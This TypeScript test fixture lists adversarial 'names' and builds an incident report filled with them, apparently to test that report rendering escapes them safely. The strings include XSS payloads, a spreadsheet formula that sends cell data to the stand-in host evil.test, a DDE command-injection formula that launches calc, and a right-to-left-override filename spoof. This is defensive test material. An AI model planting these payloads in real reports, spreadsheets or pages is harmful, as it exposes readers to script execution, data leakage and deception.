// Names that somebody might register in order to harm who reads a report, and a report that is full of them.

import { bars } from '../../../services/core/reporting/chart/bars.js';
import { timeline } from '../../../services/core/reporting/chart/timeline.js';
import { type Cell, type Report, type ReportContent, sealReport } from '../../../services/core/reporting/report.js';

export const HOSTILE: Readonly<Record<string, string>> = {
  html: '<script>alert(1)</script><img src=x onerror=alert(2)>"\'`--></style></svg>',
  formula: '=HYPERLINK("http://evil.test/?"&A1,"click")',
  at_formula: "@SUM(1+1)*cmd|' /C calc'!A0",
  right_to_left: 'invoice\u202Egpj.exe\u202C and \u2067مرحبا\u2069',
  arabic: 'بائع الكتب',
  emoji: '👩‍💻🕵️ fraud 🇩🇪',
  chinese: '贿赂内鬼',
  control: 'line\r\nbreak\u0000null\u001b[31mred\u0007',
  zero_width: 'pay\u200Bpal\uFEFF\u00ADsoft',
  lone_surrogate: 'a\ud800b',
  long: 'x'.repeat(10_000),
};

export const HOSTILE_NAMES = Object.values(HOSTILE);

export function reportOf(rows: readonly (readonly Cell[])[], name = 'e-1'): Report {
  const days = [{ day: '2026-03-01', lower: 3, upper: 9, in_question: true, marks: 1 }];
  const role = 'main' as const;
  const content: ReportContent = {
    kind: 'incident',
    title: `Incident ${name}`,
    subject: name,
    from: '2026-03-01T00:00:00.000Z',
    to: '2026-03-08T00:00:00.000Z',
    summary: [`${name} did something.`],
    sections: [
      {
        heading: `About ${name}`,
        blocks: [
          { kind: 'text', text: name },
          { kind: 'list', items: [name, name] },
          { kind: 'figures', items: [{ name: 'rows', label: name, value: rows.length, note: name, unit: name }] },
          {
            kind: 'chart',
            scene: timeline({
              title: name,
              days,
              lower: { name, role },
              upper: { name, role },
              mark: name,
              band: name,
            }),
          },
          { kind: 'chart', scene: bars(name, [{ name, bars: [{ name, value: 1, note: '1', role }] }]) },
          {
            kind: 'table',
            name: 'rows',
            caption: name,
            columns: [
              { name: 'who', label: 'Who', type: 'id' },
              { name: 'number', label: 'Number', type: 'number' },
              { name: 'text', label: 'Text', type: 'text' },
              { name: 'at', label: 'When', type: 'time' },
            ],
            rows,
            empty: 'Nothing.',
          },
        ],
      },
    ],
    main_table: 'rows',
    names_customers: false,
  };
  return sealReport(content, '0.0.0-test');
}
